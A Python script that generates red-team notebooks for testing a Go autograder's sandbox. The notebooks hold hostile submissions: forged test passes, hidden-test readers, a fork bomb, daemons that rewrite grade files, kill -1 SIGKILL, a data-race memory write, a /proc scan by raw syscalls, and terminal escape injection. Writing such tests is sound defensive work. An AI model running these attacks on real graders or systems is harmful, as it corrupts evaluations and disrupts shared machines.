"""Writes the red-team notebooks of this folder: hostile submissions, each
with the score it must get in its metadata "redteam" (see redteam_test.go).
Run from anywhere: python3 make_redteam.py"""
import json, re, copy, os
OUT = os.path.dirname(os.path.abspath(__file__))
src = json.load(open(os.path.join(OUT, '..', 'hw0_fixture', 'source.ipynb')))
hw2 = json.load(open(os.path.join(OUT, '..', '..', '..', 'hw2_pla', 'student.ipynb')))

def student_fixture():
    nb = copy.deepcopy(src)
    cells = []
    for c in nb['cells']:
        s = ''.join(c['source']) if isinstance(c['source'], list) else c['source']
        if 'BEGIN HIDDEN TESTS' in s:
            continue
        s = re.sub(r'([ \t]*)// BEGIN SOLUTION\n.*?// END SOLUTION\n', lambda m: m.group(1) + 'panic("not implemented")\n', s, flags=re.S)
        c['source'] = s
        if c['cell_type'] == 'code':
            c['outputs'] = []; c['execution_count'] = None
        cells.append(c)
    nb['cells'] = cells
    nb['metadata']['lessons'] = {'assignment': 'hw0_fixture', 'student': True}
    return nb

def code(s):
    return {'cell_type': 'code', 'metadata': {}, 'source': s, 'outputs': [], 'execution_count': None}

def md(s):
    return {'cell_type': 'markdown', 'metadata': {}, 'source': s}

def write(name, nb, meta, about, cells):
    nb = copy.deepcopy(nb)
    nb['cells'].append(md('**Red team: ' + about + '**'))
    for c in cells:
        nb['cells'].append(code(c))
    nb['metadata']['redteam'] = meta
    nb['metadata']['redteam']['about'] = about
    with open(os.path.join(OUT, name + '.ipynb'), 'w') as f:
        json.dump(nb, f, indent=1, ensure_ascii=False)
        f.write('\n')

fx = student_fixture()
# The fixture's real answers, for attacks that must still compute them.
DOT = '''func Dot(x, y []float64) float64 {
	s := 0.0
	for i := range x {
		s += x[i] * y[i]
	}
	return s
}
'''

write('init_forges_pass', fx, {'rejected': ['init function not allowed', 'import not allowed: "os"'], 'sandbox': {'score': 0}},
  'an init() reads -test.run from os.Args, prints "--- PASS" and exits 0 before any test runs',
  ['''import (
	"fmt"
	"os"
	"strings"
)

func init() {
	for _, a := range os.Args {
		if name, ok := strings.CutPrefix(a, "-test.run=^"); ok {
			name = strings.TrimSuffix(name, "$")
			fmt.Printf("=== RUN   %s\\n--- PASS: %s (0.00s)\\nPASS\\nok\\n", name, name)
			os.Exit(0)
		}
	}
}'''])

write('callers_canned_answers', fx, {'rejected': ['import not allowed: "runtime"']},
  'Dot finds the calling test with runtime.Callers and returns its expected value',
  ['''import (
	"runtime"
	"strings"
)

func Dot(x, y []float64) float64 {
	pc := make([]uintptr, 16)
	frames := runtime.CallersFrames(pc[:runtime.Callers(2, pc)])
	for {
		f, more := frames.Next()
		switch {
		case strings.HasSuffix(f.Function, "TestDotHidden"):
			return 0
		case strings.HasSuffix(f.Function, "TestDot"):
			return 32
		}
		if !more {
			return 0
		}
	}
}'''])

write('shadow_len', fx, {'rejected': ['declaration shadows a predeclared identifier: len', 'declaration shadows a predeclared identifier: true']},
  'package-level len and true shadow the built-ins the tests rely on',
  ['''// len is always 0: slice comparisons in the tests see nothing to compare.
func len(v []float64) int { return 0 }

var true = false'''])

write('package_var_call', fx, {'rejected': ['package-level variable initialised by a call: cheat(...)']},
  'a package-level variable initialised by a call runs code before the tests',
  ['''var _ = cheat()

func cheat() int {
	panic("ran before the tests")
}'''])

write('go_directives', fx, {'rejected': ['compiler directive not allowed: //go:linkname', 'compiler directive not allowed: //go:embed', 'import not allowed: "unsafe"', 'import not allowed: "embed"']},
  '//go:linkname into the runtime and //go:embed of the graded test file',
  ['''import (
	_ "embed"
	_ "unsafe"
)

//go:linkname nanotime runtime.nanotime
func nanotime() int64

//go:embed graded_test.go
var tests string'''])

write('cgo', fx, {'rejected': ['cgo not allowed: import "C"']},
  'cgo runs a C compiler at build time',
  ['''// #include <stdlib.h>
import "C"'''])

write('other_module', fx, {'rejected': ['import not allowed: "github.com/example/answers"'], 'sandbox': {'score': 0, 'present': ['github.com/example/answers']}},
  'an import of another module that holds the answers',
  ['''import "github.com/example/answers"

func Dot(x, y []float64) float64 { return answers.Dot(x, y) }'''])

write('read_hidden_tests', fx, {'rejected': ['import not allowed: "os"', 'import not allowed: "io/fs"'],
  'sandbox': {'score': 0, 'absent': ['BEGIN SOLUTION', 'func TestDotHidden(t *testing.T)', 'module graded', 'READ-BINARY-OK', 'FOUND-GO-FILE'], 'levels': ['bwrap']}},
  'Dot prints every test source, notebook and go.mod it can find, and the test binary',
  ['''import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

func Dot(x, y []float64) float64 {
	for _, p := range []string{"graded_test.go", "go.mod", "/proc/self/cwd/graded_test.go", "../source.ipynb"} {
		if b, err := os.ReadFile(p); err == nil {
			fmt.Printf("FOUND-GO-FILE %s\\n%s\\n", p, b)
		}
	}
	for _, p := range []string{"/work/graded.test", "/proc/self/exe", os.Args[0]} {
		if _, err := os.ReadFile(p); err == nil {
			fmt.Println("READ-BINARY-OK", p)
		}
	}
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if err != nil || strings.HasPrefix(p, "/proc") || strings.HasPrefix(p, "/sys") {
			return nil
		}
		if strings.HasSuffix(p, ".go") || strings.HasSuffix(p, ".ipynb") || strings.HasSuffix(p, "go.mod") {
			if b, err := os.ReadFile(p); err == nil {
				fmt.Printf("FOUND-GO-FILE %s\\n%s\\n", p, b)
			}
		}
		return nil
	})
	return -1
}'''])

write('network', fx, {'rejected': ['import not allowed: "net"', 'import not allowed: "net/http"'],
  'sandbox': {'score': 0, 'absent': ['NETWORK-OK']}},
  'Dot connects to a server of the grading machine on 127.0.0.1 and to the internet',
  ['''import (
	"fmt"
	"net"
	"net/http"
	"time"
)

func Dot(x, y []float64) float64 {
	if c, err := net.DialTimeout("tcp", "127.0.0.1:47613", time.Second); err == nil {
		fmt.Println("NETWORK-OK loopback")
		c.Close()
	} else {
		fmt.Println("loopback:", err)
	}
	client := &http.Client{Timeout: 2 * time.Second}
	if r, err := client.Get("http://proxy.golang.org/"); err == nil {
		fmt.Println("NETWORK-OK internet", r.Status)
	} else {
		fmt.Println("internet:", err)
	}
	return -1
}'''])

write('shell_id', fx, {'rejected': ['import not allowed: "os/exec"'], 'sandbox': {'score': 0, 'absent': ['SHELL-OK'], 'levels': ['bwrap']}},
  'Dot runs sh -c id',
  ['''import (
	"fmt"
	"os/exec"
)

func Dot(x, y []float64) float64 {
	for _, sh := range []string{"sh", "/bin/sh", "/usr/bin/sh", "/bin/busybox"} {
		if out, err := exec.Command(sh, "-c", "id").CombinedOutput(); err == nil {
			fmt.Printf("SHELL-OK %s: %s\\n", sh, out)
		} else {
			fmt.Println(sh+":", err)
		}
	}
	return -1
}'''])

DAEMON_INIT = '''import (
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"
)

// Children are the test binary itself: its init takes over before TestMain.
func init() {
	switch os.Getenv("REDTEAM") {
	case "daemon":
		// Outlive the grader, then rewrite every results file in reach.
		time.Sleep(20 * time.Second)
		for _, p := range []string{"/autograder/results/results.json", "results.json", "../grades.csv"} {
			os.WriteFile(p, []byte(`{"score": 1000}`), 0o644)
		}
		os.Exit(0)
	case "bomb":
		for {
			spawn("bomb")
		}
	case "hog":
		var hog [][]byte
		for {
			b := make([]byte, 1<<20)
			for i := 0; i < len(b); i += 512 {
				b[i] = 1
			}
			hog = append(hog, b)
		}
	}
}

func spawn(kind string) {
	cmd := exec.Command("/proc/self/exe", "-test.run=^$", "redteam-"+kind)
	cmd.Env = []string{"REDTEAM=" + kind}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil && !strings.Contains(err.Error(), "resource") {
		time.Sleep(time.Millisecond)
	}
}
'''

write('daemons', fx, {'rejected': ['init function not allowed', 'import not allowed: "os/exec"', 'import not allowed: "syscall"'],
  'sandbox': {'score': 0, 'survivors': 'redteam-daemon'}},
  '50 setsid daemons that sleep past the grader and then rewrite results.json and grades.csv',
  [DAEMON_INIT, '''func Dot(x, y []float64) float64 {
	for i := 0; i < 50; i++ {
		spawn("daemon")
	}
	time.Sleep(time.Second)
	return -1
}'''])

write('fork_bomb', fx, {'rejected': ['init function not allowed', 'import not allowed: "os/exec"'],
  'sandbox': {'score': 0, 'survivors': 'redteam-bomb'}},
  'a fork bomb: every child starts children forever',
  [DAEMON_INIT, '''func Dot(x, y []float64) float64 {
	for i := 0; i < 4; i++ {
		spawn("bomb")
	}
	time.Sleep(3 * time.Second)
	return -1
}'''])

write('memory_children', fx, {'rejected': ['init function not allowed', 'import not allowed: "os/exec"'],
  'sandbox': {'score': 0, 'survivors': 'redteam-hog', 'memory': 512}},
  'six children that each allocate memory until stopped: the limit is on the whole tree',
  [DAEMON_INIT, '''func Dot(x, y []float64) float64 {
	for i := 0; i < 6; i++ {
		spawn("hog")
	}
	time.Sleep(8 * time.Second)
	return -1
}'''])

write('fill_tmp', fx, {'rejected': ['import not allowed: "os"'], 'sandbox': {'score': 0, 'absent': ['FILL-OK']}},
  'Dot writes 200 MB to /tmp and to its working folder',
  ['''import (
	"fmt"
	"os"
)

func Dot(x, y []float64) float64 {
	chunk := make([]byte, 1<<20)
	for _, p := range []string{"/tmp/fill", "fill", "/dev/shm/fill"} {
		f, err := os.Create(p)
		if err != nil {
			fmt.Println(p+":", err)
			continue
		}
		n := 0
		for ; n < 200; n++ {
			if _, err := f.Write(chunk); err != nil {
				fmt.Println(p+":", err)
				break
			}
		}
		f.Close()
		if n == 200 {
			fmt.Println("FILL-OK", p)
		}
	}
	return -1
}'''])

write('plant_and_overwrite', fx, {'rejected': ['import not allowed: "os"'], 'sandbox': {'score': 0, 'absent': ['PLANT-OK']}, 'batch': True},
  'Dot plants a .go file in every folder it can reach and overwrites every other notebook it finds',
  ['''import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

func Dot(x, y []float64) float64 {
	plant := []byte("package main\\n\\nfunc init() { panic(\\"planted\\") }\\n")
	// Its own folder and /tmp are private to the sandbox: it tries above.
	dirs := []string{"/", "/home", "/root", "/srv"}
	if wd, err := os.Getwd(); err == nil {
		for d := filepath.Dir(wd); d != "/"; d = filepath.Dir(d) {
			dirs = append(dirs, d)
		}
	}
	for _, d := range dirs {
		if os.WriteFile(filepath.Join(d, "planted_redteam.go"), plant, 0o644) == nil {
			fmt.Println("PLANT-OK", d)
		}
	}
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, ".ipynb") && os.WriteFile(p, []byte("{}"), 0o644) == nil {
			fmt.Println("PLANT-OK overwrote", p)
		}
		return nil
	})
	return -1
}'''])

write('reference_package_hw2', hw2, {'assignment': 'hw2_pla', 'rejected': ['identifier denied by the assignment: perceptron.PLA', 'identifier denied by the assignment: perceptron.NewOnline', 'identifier denied by the assignment: .Step']},
  'the exercises call the perceptron package: PLA stands in for BatchPLA, Online.Step for PLAStep',
  ['''func PLAStep(w []float64, b float64, x []float64, y, eta float64) ([]float64, float64, bool) {
	o, _ := perceptron.NewOnline(len(w), eta, perceptron.TieMistake)
	up := o.Step(x, y)
	return o.W, o.B, up
}

func BatchPLA(X [][]float64, y []float64, w0 []float64, b0, eta float64, maxEpochs int) PLARun {
	d, _ := perceptron.NewDataset(X, y)
	opt := perceptron.Options{}
	r, _ := perceptron.PLA(d, opt)
	return PLARun{W: r.W, B: r.B, Converged: true}
}'''])

write('honest_memory_heavy', fx, {'score': 7.5, 'memory': 1024},
  'an honest Dot that works in a 200 MiB buffer: a limit on resident memory lets it pass (a 1 GiB ulimit -v, which counts the 1.2 GB a Go test binary reserves, did not)',
  ['''func Dot(x, y []float64) float64 {
	buf := make([]float64, 200<<20/8)
	for i := range buf {
		buf[i] = 1
	}
	s := 0.0
	for i := range x {
		s += x[i] * y[i] * buf[i]
	}
	return s
}''', '''func Score(w []float64, b float64, x []float64) float64 { return Dot(w, x) + b }

func Sign(v float64) float64 {
	if math.IsNaN(v) {
		return 0
	}
	if v >= 0 {
		return 1
	}
	return -1
}'''])
# The honest solution, for the batch tests.
sol = copy.deepcopy(fx)
sol['cells'].append(code(DOT))
sol['cells'].append(code('''func Score(w []float64, b float64, x []float64) float64 { return Dot(w, x) + b }

func Sign(v float64) float64 {
	if math.IsNaN(v) {
		return 0
	}
	if v >= 0 {
		return 1
	}
	return -1
}'''))
sol['metadata']['redteam'] = {'score': 7.5, 'about': 'the honest solution', 'batch': True}
json.dump(sol, open(os.path.join(OUT, 'honest_solution.ipynb'), 'w'), indent=1)
m = copy.deepcopy(sol); m['metadata']['lessons'] = {'assignment': '../../../../tmp/evil', 'student': True}
m['metadata']['redteam'] = {'score': 0, 'about': 'metadata lessons.assignment points outside the lessons folder', 'batch': True, 'note': 'this notebook is for "../../../../tmp/evil"'}
json.dump(m, open(os.path.join(OUT, 'metadata_traversal.ipynb'), 'w'), indent=1)
m = copy.deepcopy(sol); m['metadata']['lessons'] = ['not', 'an', 'object']
m['metadata']['redteam'] = {'score': 0, 'about': 'metadata lessons is not an object', 'batch': True, 'note': 'is not a string'}
json.dump(m, open(os.path.join(OUT, 'metadata_malformed.ipynb'), 'w'), indent=1)

write('test_helpers', fx, {'rejected': ["uses the tests' code: check is declared by the tests"]},
  "Dot calls a helper of the tests, compiled into the same package (a helper may hold the reference answer)",
  ['''func Dot(x, y []float64) float64 {
	check(nil, "nothing", 0, 0)
	return 0
}'''])

# The trust boundary (issue 20): attacks on a verdict that shared the
# student's process. Each must now get only what its code computes.
RACE = '''// An interface value is two words (type, data), written one after the
// other: a reader racing with a writer can see the type of one value with
// the data of the other. Both boxes are pointers, held in the data word.
type cell interface{ touch(v uintptr) uintptr }

type ptrBox struct{ p *uintptr }
type intBox struct{ v uintptr }

// touch writes v where the box points (a torn read: anywhere).
func (b *ptrBox) touch(v uintptr) uintptr {
	if v != 0 {
		*b.p = v
	}
	return 0
}

// touch reads the box's word as a number (a torn read: a pointer).
func (b *intBox) touch(uintptr) uintptr { return b.v }

var shared cell

// confuse calls try on torn reads of shared until it reports success.
func confuse(a, b cell, try func(c cell) bool) bool {
	shared = a
	stop, done := false, make(chan bool)
	go func() {
		for i := 0; !stop; i++ {
			if i&1 == 0 {
				shared = a
			} else {
				shared = b
			}
		}
		done <- true
	}()
	ok := false
	for i := 0; i < 50000000 && !ok; i++ {
		ok = try(shared)
	}
	stop = true
	<-done
	return ok
}
'''

write('data_race_write', fx, {'score': 0, 'present': ['RACE-WRITE-OK'], 'sandbox': {'score': 0, 'present': ['RACE-WRITE-OK']}},
  'a data race on an interface value forges a pointer: Dot reads the address of a variable and writes any word anywhere in its process, with no import, no unsafe and no reflect; with the verdict in its process it could rewrite it, with the boundary it finds no test, no verdict and no key there',
  [RACE, '''func Dot(x, y []float64) float64 {
	var target, sink uintptr = 7, 0
	var addr uintptr
	confuse(&intBox{}, &ptrBox{p: &target}, func(c cell) bool {
		addr = c.touch(0)
		return addr != 0
	})
	dummy, evil := &ptrBox{p: &sink}, &intBox{v: addr}
	if confuse(dummy, evil, func(c cell) bool {
		c.touch(0x4242)
		return target == 0x4242
	}) {
		fmt.Println("RACE-WRITE-OK: wrote 0x4242 at", addr)
	}
	return -1
}'''])

write('harness_call', fx, {'score': 0, 'absent': ['Dot([-1 0.5], [2 4])', '-1 0.5'], 'sandbox': {'score': 0, 'absent': ['Dot([-1 0.5], [2 4])', '-1 0.5']}},
  "Dot calls the harness's wrapper of the hidden test with a nil *testing.T, so that the hidden test builds its data and calls Dot, which prints its inputs",
  ['''func Dot(x, y []float64) float64 {
	fmt.Println("LEAK", x, y)
	if len(x) == 3 {
		TestGraded_TestDotHidden(nil)
	}
	return 0
}'''])

hw2_noimport = copy.deepcopy(hw2)
for c in hw2_noimport['cells']:
    s = ''.join(c['source']) if isinstance(c['source'], list) else c['source']
    if s.startswith('import (') and 'perceptron' in s:
        c['source'] = 'import (\n\t"fmt"\n\t"slices"\n)'
write('deny_via_goimports', hw2_noimport, {'assignment': 'hw2_pla', 'rejected': ['identifier denied by the assignment: perceptron.PLA']},
  'BatchPLA calls perceptron.PLA with no import of perceptron: goimports adds the import at build time, and the deny list still applies',
  ['''func BatchPLA(X [][]float64, y []float64, w0 []float64, b0, eta float64, maxEpochs int) PLARun {
	d, _ := perceptron.NewDataset(X, y)
	r, _ := perceptron.PLA(d, perceptron.Options{})
	return PLARun{W: r.W, B: r.B, Converged: true}
}'''])

write('hidden_signature', hw2, {'assignment': 'hw2_pla', 'score': 0,
  'present': ['Epoch is not defined with this signature: want func([][]float64, []float64, []float64, float64, float64) ([]float64, float64, int)'],
  'absent': ['cannot use 0.1', 'untyped float constant']},
  'Epoch takes eta as an int: only a hidden test calls it with 0.1, and its compiler message would show the hidden cell, line and arguments',
  ['''func Epoch(X [][]float64, y []float64, w []float64, b float64, eta int) ([]float64, float64, int) {
	return w, b, 0
}'''])

write('garbage_reply', fx, {'rejected': ['import not allowed: "os"'], 'sandbox': {'score': 0, 'absent': ['TestDot: 2 / 2']}},
  "Dot writes a forged reply, then garbage, on its process's reply pipe (fd 4) and exits: the call fails, and only its test",
  ['''import "os"

func Dot(x, y []float64) float64 {
	f := os.NewFile(4, "replies")
	f.Write([]byte("TestDot pass 0000\\n\\x00\\xff\\x12garbage"))
	os.Exit(0)
	return 32
}'''])

write('escape_codes', fx, {'score': 0, 'absent': ['\x1b', '\x07'], 'present': ['\\x1b[2J']},
  'Dot prints ANSI escapes: a screen clear, a forged "Score: 7.5 / 7.5" and an OSC 52 clipboard write, which must reach no terminal raw',
  ['''func Dot(x, y []float64) float64 {
	fmt.Print("\\x1b[2J\\x1b[HScore: 7.5 / 7.5\\n\\x1b]52;c;ZWNobyBwd25lZA==\\x07")
	s := 0.0
	for i := range x {
		s += x[i] * y[i]
	}
	return s + 1 // wrong, so that the report shows what it printed
}'''])

bomb = ['const bomb0 = "0123456789abcdef"']
for i in range(1, 27):
    bomb.append('const bomb%d = bomb%d + bomb%d' % (i, i - 1, i - 1))
write('compile_bomb', fx, {'score': 0, 'build': 512, 'present': ['the build exceeded 512 MiB of memory']},
  'doubling string constants: 26 lines ask the compiler for a 1 GiB constant and many times that in memory; the build is killed at its limit, a zero for this submission only',
  ['\n'.join(bomb) + '\n\nvar bombSink = bomb26\n', '''func Dot(x, y []float64) float64 { return float64(len(bombSink)) }'''])

PIPE_INIT = DAEMON_INIT.replace('''	case "bomb":''', '''	case "forever":
		time.Sleep(time.Hour)
		os.Exit(0)
	case "bomb":''')
write('daemon_pipe', fx, {'rejected': ['init function not allowed', 'import not allowed: "os/exec"', 'import not allowed: "syscall"'],
  'sandbox': {'score': 0, 'survivors': 'redteam-pipe'}},
  'a setsid daemon that holds the output pipe and the reply pipe and sleeps for an hour: the grader must neither wait for it nor leave it running',
  [PIPE_INIT, '''func Dot(x, y []float64) float64 {
	cmd := exec.Command("/proc/self/exe", "redteam-pipe")
	cmd.Env = []string{"REDTEAM=forever"}
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.ExtraFiles = []*os.File{os.NewFile(3, "calls"), os.NewFile(4, "replies")}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	cmd.Start()
	return -1
}'''])

write('kill_all', fx, {'rejected': ['import not allowed: "syscall"'], 'batch': True, 'score': 0},
  "Dot sends SIGKILL to every process it may signal (kill -1), for a second, while the batch grades the others: an honest submission graded beside it must keep its marks",
  ['''import (
	"syscall"
	"time"
)

func Dot(x, y []float64) float64 {
	for start := time.Now(); time.Since(start) < time.Second; {
		syscall.Kill(-1, syscall.SIGKILL)
		time.Sleep(time.Millisecond)
	}
	return -1
}'''])

write('syscalls_by_address', fx, {'rejected': ['import not allowed: "syscall"', 'import not allowed: "unsafe"'],
  'sandbox': {'score': 0, 'absent': ['NETWORK-OK', 'HIDDEN-FOUND'], 'present': ['SYSCALLS-RAN']}},
  'system calls by address: Dot calls the kernel by number (socket, connect, openat, read), as code that forged a pointer to the runtime\'s system call entry could with no import: it connects to a server of the grading machine on 127.0.0.1 and reads the executable and folder of every process it can see, looking for the hidden tests',
  ['''import (
	"bytes"
	"fmt"
	"syscall"
	"unsafe"
)

func Dot(x, y []float64) float64 {
	fd, _, e := syscall.RawSyscall(syscall.SYS_SOCKET, syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if e == 0 {
		sa := [16]byte{syscall.AF_INET, 0, 47613 >> 8, 47613 & 0xff, 127, 0, 0, 1}
		if _, _, e := syscall.Syscall(syscall.SYS_CONNECT, fd, uintptr(unsafe.Pointer(&sa[0])), 16); e == 0 {
			fmt.Println("NETWORK-OK by number")
		} else {
			fmt.Println("connect:", e)
		}
		syscall.RawSyscall(syscall.SYS_CLOSE, fd, 0, 0)
	} else {
		fmt.Println("socket:", e)
	}
	self, _, _ := syscall.RawSyscall(syscall.SYS_GETPID, 0, 0, 0)
	atFDCWD := ^uintptr(99) // -100
	buf := make([]byte, 1<<16)
	for pid := uintptr(1); pid < 1<<15; pid++ {
		if pid == self {
			continue
		}
		for _, f := range []string{"exe", "cwd/graded_test.go", "cwd/source.ipynb", "cwd/../source.ipynb"} {
			p := []byte(fmt.Sprintf("/proc/%d/%s\\x00", pid, f))
			fd, _, e := syscall.Syscall6(syscall.SYS_OPENAT, atFDCWD, uintptr(unsafe.Pointer(&p[0])), syscall.O_RDONLY, 0, 0, 0)
			if e != 0 {
				continue
			}
			var data []byte
			for len(data) < 256<<20 {
				n, _, e := syscall.Syscall(syscall.SYS_READ, fd, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)))
				if e != 0 || n == 0 {
					break
				}
				data = append(data, buf[:n]...)
			}
			syscall.RawSyscall(syscall.SYS_CLOSE, fd, 0, 0)
			if bytes.Contains(data, []byte("TestDotHidden")) || bytes.Contains(data, []byte("BEGIN HIDDEN")) {
				fmt.Printf("HIDDEN-FOUND in /proc/%d/%s\\n", pid, f)
			}
		}
	}
	fmt.Println("SYSCALLS-RAN")
	return -1
}'''])

LEAK = '''import (
	"fmt"
	"os"
	"path/filepath"
)

// leak prints what earlier tests left in the world-writable folders, then
// leaves its own inputs there for later tests.
func leak(what string) {
	for _, d := range []string{"/tmp", "/var/tmp", "/dev/shm", "/run/lock"} {
		if b, err := os.ReadFile(filepath.Join(d, "redteam-leak")); err == nil {
			fmt.Printf("FOUND-LEAK %s: %s\\n", d, b)
		}
		os.WriteFile(filepath.Join(d, "redteam-leak"), []byte(what), 0o644)
	}
}
'''
write('leak_across_tests', fx, {'rejected': ['import not allowed: "os"'], 'sandbox': {'score': 0, 'absent_json': ['[-1 0.5] [2 4]']}},
  "each call leaves its inputs in /tmp, /var/tmp, /dev/shm and /run/lock and prints what an earlier test left there, so that a visible test's output would carry a hidden test's inputs to the student",
  [LEAK, '''func Dot(x, y []float64) float64 {
	leak(fmt.Sprint(x, y))
	return -1
}

func Score(w []float64, b float64, x []float64) float64 {
	leak(fmt.Sprint(w, b, x))
	return -1
}

func Sign(v float64) float64 {
	leak(fmt.Sprint(v))
	return 0
}'''])
